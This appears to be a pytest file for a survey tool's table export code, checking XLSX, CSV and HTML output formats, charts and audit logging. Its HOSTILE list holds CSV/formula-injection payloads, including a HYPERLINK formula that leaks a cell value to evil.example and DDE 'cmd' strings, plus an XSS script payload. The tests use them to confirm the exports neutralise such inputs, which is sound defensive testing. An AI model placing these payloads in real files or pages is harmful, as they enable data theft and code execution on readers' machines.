"""Table files opened as a reader would: openpyxl for the XLSX (numbers as numbers, their
formats, titles and notes), a CSV reader, the HTML's own text; hostile labels and notes."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pandas as pd
import pytest

from analysis.dataset.dataset import load_dataset
from analysis.export import ExportError, chart, chart_svg, table_file, table_filename
from analysis.export.tables.as_xlsx import HEADER_ROW, number_format
from analysis.indicators.sections import indicator_tables
from analysis.tables.question_tables import crosstab_table, question_table
from analysis.tables.summary_table import RELIABILITY_NOTE, Column, SummaryTable, estimate_columns
from survey import ResponseStore
from survey.fieldwork.audit_log import AuditLog
from survey.simulate import main as simulate
from tests.support.html_pages import assert_self_contained

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "<script>alert('x')</script><img src=x onerror=alert(1)>"]
FIRST_ROW = HEADER_ROW + 2  # openpyxl counts from 1: the first data row


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    root = tmp_path_factory.mktemp("store")
    simulate(["--households", "150", "--civil-servants", "40", "--agencies", "10", "--seed", "9", "--bulk",
              "--out", str(root)])
    return ResponseStore(root)


@pytest.fixture(scope="module")
def households(store):
    return load_dataset(store, "household", lang="id")


@pytest.fixture(scope="module")
def tables(store, households):
    return indicator_tables(households, load_dataset(store, "civil_servant"), load_dataset(store, "agency"))


def _book(data: bytes) -> openpyxl.Workbook:
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), "a formula cell"
    return book


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _column(sheet, header: str) -> int:
    labels = [c.value for c in sheet[HEADER_ROW + 1]]
    return labels.index(header) + 1


def hostile_table() -> SummaryTable:
    data = pd.DataFrame({"choice": ["a", "b", "c"], "estimate": [-5.0, 40.0, 12.5], "se": [1.0, 12.0, 8.0],
                         "ci_low": [-7.0, 20.0, 1.0], "ci_high": [-3.0, 60.0, 30.0], "n": [10, 20, 30],
                         "reliability": ["reliable", "caution", "unreliable"], "kind": "percent",
                         "note": [HOSTILE[2], "-5", "plain"]})
    columns = {"choice": Column({"id": HOSTILE[1], "en": HOSTILE[1]}),
               **{k: v for k, v in estimate_columns().items() if k in ("estimate", "se", "ci_low", "ci_high", "n")},
               "note": Column({"id": "Catatan", "en": "Note"})}
    labels = {"a": {"id": HOSTILE[0], "en": HOSTILE[0]}, "b": {"id": HOSTILE[5], "en": HOSTILE[5]},
              "c": {"id": HOSTILE[4], "en": HOSTILE[4]}}
    return SummaryTable(data, {"id": HOSTILE[3], "en": HOSTILE[3]}, columns, value_labels={"choice": labels},
                        notes=({"id": HOSTILE[0], "en": HOSTILE[0]}, RELIABILITY_NOTE), keys=("choice",))


def test_the_xlsx_has_title_labels_numbers_formats_marks_and_notes(tables):
    table = tables["household"]
    book = _book(table_file(table, "xlsx", "id"))
    sheet = book.worksheets[0]
    assert sheet["A1"].value == "Indikator TIK rumah tangga (ITU HH1-HH16)"
    labels = [c.value for c in sheet[HEADER_ROW + 1]]
    assert labels == [table.label(c, "id") for c in table.columns]
    data = table.data
    estimate, se, n, deff = (_column(sheet, table.label(c, "id")) for c in ("estimate", "se", "n", "deff"))
    for i, row in data.iterrows():
        cell = sheet.cell(FIRST_ROW + i, estimate)
        assert cell.data_type == "n" and cell.value == pytest.approx(row["estimate"])
        mark = {"caution": "*", "unreliable": "**"}.get(row["reliability"], "")
        if row["kind"] == "percent":
            assert cell.number_format == f'0.0"%{mark}"'
            assert sheet.cell(FIRST_ROW + i, se).number_format == "0.0"  # percentage points
        else:  # HH16: a mean in rupiah
            assert cell.number_format == '"Rp"#,##0' + (f'"{mark}"' if mark else "")
        assert sheet.cell(FIRST_ROW + i, n).number_format == "#,##0" and sheet.cell(FIRST_ROW + i, n).data_type == "n"
        assert sheet.cell(FIRST_ROW + i, deff).number_format == "0.00"
        assert sheet.cell(FIRST_ROW + i, 2).value == table.value_label("indicator", row["indicator"], "id")
    assert {"caution", "unreliable"} & set(data["reliability"])  # the sample has marked estimates
    texts = [c.value for c in sheet["A"] if isinstance(c.value, str)]
    notes = texts[texts.index("Catatan") + 1:]
    assert RELIABILITY_NOTE["id"] in notes
    assert any(line.startswith("Desain: Sampel dua tahap") for line in notes)
    assert any(line.startswith("Bobot (household): Bobot dasar dari frame.csv") for line in notes)
    assert any(line.startswith("Data per ") and "150 respons dalam analisis" in line for line in notes)
    assert any("versi proyek" in line for line in notes)


def test_english_rupiah_and_thousands_formats():
    assert number_format("idr", None, "en") == '"IDR "#,##0'
    assert number_format("count", None, "id") == "#,##0"
    assert number_format("number", 2, "en", "**") == '#,##0.00"**"'
    assert number_format("pvalue", None, "en") == "0.000"


def test_a_crosstab_keeps_its_test_statistics_as_numbers(households):
    table = crosstab_table(households, "has_internet", "kecamatan")
    sheet = _book(table_file(table, "xlsx", "en")).worksheets[0]
    texts = [c.value for c in sheet["A"]]
    start = texts.index("Test statistics") + 1
    header = [c.value for c in sheet[start + 1]]
    values = dict(zip(header, [c.value for c in sheet[start + 2]]))
    f, ndf, ddf, p = table.stats["tests"][0]["rao_scott"]
    assert values["Rao-Scott F"] == pytest.approx(f) and values["p-value"] == pytest.approx(p)
    assert values["Cramér's V"] == pytest.approx(table.stats["tests"][0]["cramers_v"])
    assert any("Rao-Scott test" in str(t) for t in texts)


def test_the_csv_has_labels_and_plain_numbers(households):
    table = question_table(households, "has_internet", by="kecamatan")
    rows = _csv(table_file(table, "csv", "en"))
    assert rows[0] == [table.label(c, "en") for c in table.columns]
    data = table.data
    estimate = rows[0].index("Estimate")
    assert [float(r[estimate]) for r in rows[1:]] == pytest.approx(data["estimate"].tolist())
    assert rows[1][rows[0].index(table.label("by", "en"))] == table.value_label("by", data["by"][0], "en")
    counts = [r[rows[0].index("Respondents")] for r in rows[1:]]
    assert all(re.fullmatch(r"[0-9]+", c) for c in counts)


def test_hostile_labels_titles_and_notes_never_run_as_formulas():
    table = hostile_table()
    rows = _csv(table_file(table, "csv", "en"))
    assert rows[0][0] == "'" + HOSTILE[1]
    assert [r[0] for r in rows[1:]] == ["'" + HOSTILE[0], HOSTILE[5], "'" + HOSTILE[4]]
    assert rows[1][1] == "-5.0" and rows[1][-1] == "'" + HOSTILE[2] and rows[2][-1] == "-5"  # numbers stay numbers
    sheet = _book(table_file(table, "xlsx", "en")).worksheets[0]
    assert sheet["A1"].value == HOSTILE[3] and sheet["A1"].data_type == "s"
    header = sheet.cell(HEADER_ROW + 1, 1)
    assert header.value == HOSTILE[1] and header.data_type == "s"
    first = sheet.cell(FIRST_ROW, 1)
    assert first.value == HOSTILE[0] and first.data_type == "s" and first.quotePrefix
    estimate = sheet.cell(FIRST_ROW, 2)
    assert estimate.value == -5.0 and estimate.data_type == "n"
    assert sheet.cell(FIRST_ROW + 1, 2).number_format == '0.0"%*"'
    assert sheet.cell(FIRST_ROW + 2, 2).number_format == '0.0"%**"'
    notes = [c for c in sheet["A"] if c.value == HOSTILE[0] and c.row > FIRST_ROW]
    assert notes and notes[0].data_type == "s"


def test_the_html_is_self_contained_with_an_inline_chart_and_escaped_text():
    page = table_file(hostile_table(), "html", "en").decode("utf-8")
    assert page.startswith("<!DOCTYPE html>") and "svg" in assert_self_contained(page).tags
    assert "&lt;script&gt;alert(" in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "40,0%" not in page and "40.0%*" in page and "12.5%**" in page  # marks, English numbers


def test_indicator_html_names_no_outside_address(tables):
    page = table_file(tables["individual"], "html", "id").decode("utf-8")
    assert "svg" in assert_self_contained(page).tags and not re.search(r"https?://", page)
    assert "SK 95%" in page and "Catatan" in page


def test_charts_draw_each_kind_of_table_as_the_pages_do(tables, households):
    """One chart spec per kind of table (analysis.charts): the printable file draws the page's chart
    (issue 23, item 2)."""
    from analysis import charts

    assert chart(tables["household"], "en").to_dict() == charts.indicator_chart(tables["household"], "en").to_dict()
    for name in ("individual", "egov", "stages", "city", "leadership"):
        assert chart(tables[name], "id") is not None, name
        assert chart_svg(tables[name], "id").startswith("<svg"), name
    layered = crosstab_table(households, "has_computer", "has_internet", layer="kecamatan")
    spec = chart(layered, "id").to_dict()
    assert spec == charts.crosstab_chart(layered, "id").to_dict()
    assert spec["facet"]["row"]["field"] == "layer" and spec["config"]["locale"]["number"]["decimal"] == ","
    assert chart_svg(layered, "en").startswith("<svg")
    shares = question_table(households, "has_internet")
    assert chart(shares, "en").to_dict() == charts.shares_chart(shares, "en").to_dict()
    empty = SummaryTable(pd.DataFrame({"choice": [], "estimate": []}), "t", {"choice": Column("c"),
                                                                             "estimate": Column("e", "percent")})
    assert chart(empty, "en") is None and chart_svg(empty, "en") is None


def test_an_empty_table_is_a_file_that_says_so(tmp_path):
    empty = load_dataset(ResponseStore(tmp_path / "empty", audit=False), "household")
    table = question_table(empty, "has_internet")
    sheet = _book(table_file(table, "xlsx", "en")).worksheets[0]
    texts = [c.value for c in sheet["A"] if c.value]
    assert any(str(t).startswith("No responses yet") for t in texts)
    assert "<svg" not in table_file(table, "html", "en").decode()
    assert len(_csv(table_file(table, "csv", "en"))) == 1


def test_table_files_are_recorded_when_asked_and_refuse_unknown_formats(tables, tmp_path):
    log = AuditLog(tmp_path)
    table_file(tables["egov"], "csv", "en", user="sup1", audit=log)
    with pytest.raises(ExportError) as refused:
        table_file(tables["egov"], "pdf", "en", user="sup1", audit=log)
    assert "tidak dikenal" in refused.value.texts["id"]
    assert [(e["user"], e["object"], e["outcome"]) for e in log.entries(newest_first=False)] == [
        ("sup1", "table/indicators", "ok"), ("sup1", "table/indicators", "invalid")]
    name = table_filename(tables["egov"], "xlsx", "id")
    assert re.fullmatch(r"E-government_indicators_EG1-EG7_id_\d{4}-\d{2}-\d{2}\.xlsx", name)
    assert table_filename(hostile_table(), "csv", "en").startswith("2_3_cmd")
